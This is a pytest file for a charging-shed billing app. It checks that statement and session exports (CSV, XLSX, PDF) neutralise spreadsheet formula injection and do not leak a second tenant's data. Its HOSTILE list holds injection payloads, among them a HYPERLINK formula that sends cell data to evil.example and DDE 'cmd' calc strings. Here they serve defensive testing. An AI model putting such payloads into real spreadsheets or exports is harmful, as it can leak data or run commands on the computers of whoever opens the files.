"""Hostile names in every export stay text: read back with csv and openpyxl, no cell is a formula.

A second tenant (its own site, operator, shed, agreement party, resident and charges in the same
month, with hostile names of its own) is present throughout: tenant A's exports carry none of it."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from chargeshed.cells import neutral_text
from chargeshed.extensions import db
from chargeshed.settlement import statements
from chargeshed.settlement.agreements import PartyInput
from chargeshed.settlement.exports import statement_file
from chargeshed.settlement.periods import Period
from tests.settlement.conftest import local

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
    "＝1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_starts_get_the_text_mark_and_numbers_stay_numbers(text):
    assert neutral_text(text) == "'" + text
    for number in ("-12.50", "0", "45.50%", "+3", "1,234.00"):
        assert neutral_text(number) == number
    assert neutral_text("株洲 = 好") == "株洲 = 好"


# Everything of tenant B carries this mark (and B's resident this phone number).
B_MARK = "B-only"
B_PHONE = "13600009999"


def _assert_nothing_of_tenant_b(text: str) -> None:
    assert B_MARK not in text and B_PHONE not in text


@pytest.fixture
def hostile_month(app, make_site, make_resident, ports, charge, agree, at, top_up, refund):
    """A month whose site, sheds and parties all carry formula-like names, beside a second tenant
    with hostile names and charges of its own in the same month."""
    at(2026, 9, 1)
    site = make_site(sheds=(1, 1, 1))
    other = make_site(sheds=(1,))
    other.name = f"=HYPERLINK({B_MARK} site)"
    other.sheds[0].name = f"+{B_MARK} shed"
    assert other.sheds[0].operator_id != site.sheds[0].operator_id
    db.session.commit()
    agree(other, parties=[PartyInput(f"@{B_MARK} party", "operator", 10000, pays_electricity=True)])
    site.name = HOSTILE[0]
    for shed, name in zip(site.sheds, HOSTILE[1:4], strict=True):
        shed.name = name
    db.session.commit()
    agree(
        site,
        parties=[
            PartyInput(HOSTILE[4], "operator", 6000, pays_electricity=True),
            PartyInput(HOSTILE[5], "property", 3000),
            PartyInput(HOSTILE[6], "owners_committee", 1000),
        ],
    )
    user = make_resident()
    at(2026, 10, 1, 8)
    top_up(user, 5000)
    port = ports(site)
    for shed in (1, 2, 3):
        session = charge(user, port[shed][0], local(2026, 10, 2 + shed, 19), minutes=100, watts=180)
    neighbour = make_resident(phone=B_PHONE)
    top_up(neighbour, 5000)
    b_session = charge(neighbour, ports(other)[1][0], local(2026, 10, 9, 19), minutes=100, watts=180)
    at(2026, 10, 31, 9)
    refund(session, 40, HOSTILE[0])
    refund(b_session, 30, f"-{B_MARK} refund")
    at(2026, 11, 3)
    return site


def _view(site):
    return statements.view_statement(site.sheds[0].operator_id, site.id, Period.month("2026-10"))


def _assert_no_formula_text(cells: list[str]) -> None:
    texts = [c for c in cells if c]
    for hostile in HOSTILE:
        assert any(hostile.strip() in c for c in texts), f"{hostile!r} missing from the export"
    dangerous = [
        c
        for c in texts
        if c.startswith(("=", "+", "@", "\t", "\r", "＝"))
        or (c.startswith("-") and not c.replace("-", "", 1).replace(".", "").replace(",", "").isdigit())
    ]
    assert dangerous == []


def test_the_statement_csv_keeps_hostile_names_as_text(hostile_month):
    content, _ = statement_file(_view(hostile_month), "csv")
    cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
    _assert_no_formula_text(cells)
    assert "'" + HOSTILE[1] in cells
    _assert_nothing_of_tenant_b(content.decode("utf-8-sig"))


def test_the_statement_xlsx_has_no_formula_but_its_own_sums(hostile_month):
    content, _ = statement_file(_view(hostile_month), "xlsx")
    book = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert str(cell.value).startswith("=SUM("), (sheet.title, cell.coordinate, cell.value)
                elif isinstance(cell.value, str):
                    texts.append(cell.value)
    _assert_no_formula_text(texts)
    _assert_nothing_of_tenant_b("\n".join(texts))


def test_the_statement_pdf_text_carries_the_mark_too(hostile_month):
    content, _ = statement_file(_view(hostile_month), "pdf")
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)
    flat = text.replace("\n", "")  # narrow columns wrap cells over lines
    assert "'+cmd|'" in flat and "'-2+3+cmd" in flat and "'@SUM(1+1)" in flat
    _assert_nothing_of_tenant_b(flat)


def test_the_sessions_csv_keeps_a_hostile_shed_name_as_text(hostile_month, client, make_staff):
    """Tenant A's manager downloads A's charges: hostile names as text, nothing of tenant B."""
    from chargeshed.accounts.models import ROLE_ADMIN, ROLE_OPERATOR_STAFF, ROLE_SITE_MANAGER

    site = hostile_month
    staff = [
        make_staff(ROLE_SITE_MANAGER, site_id=site.id),
        make_staff(ROLE_OPERATOR_STAFF, site_id=site.id, operator_id=site.sheds[0].operator_id),
    ]
    for user in staff:
        assert client.post("/login", data={"login": user.login, "password": "secret-pass"}).status_code == 302
        response = client.get("/manage/sessions.csv", query_string={"from": "2026-10-01", "to": "2026-10-31"})
        assert response.status_code == 200
        text = response.get_data(as_text=True)
        rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
        sheds = {row[3] for row in rows[1:]}
        assert sheds == {"'" + name for name in HOSTILE[1:4]}, user.role
        _assert_nothing_of_tenant_b(text)
        client.post("/logout")
    # The platform admin's export has B's hostile shed name too, neutralised the same way.
    admin = make_staff(ROLE_ADMIN)
    assert client.post("/login", data={"login": admin.login, "password": "secret-pass"}).status_code == 302
    text = client.get("/manage/sessions.csv", query_string={"from": "2026-10-01", "to": "2026-10-31"}).get_data(
        as_text=True
    )
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert f"'+{B_MARK} shed" in {row[3] for row in rows[1:]}
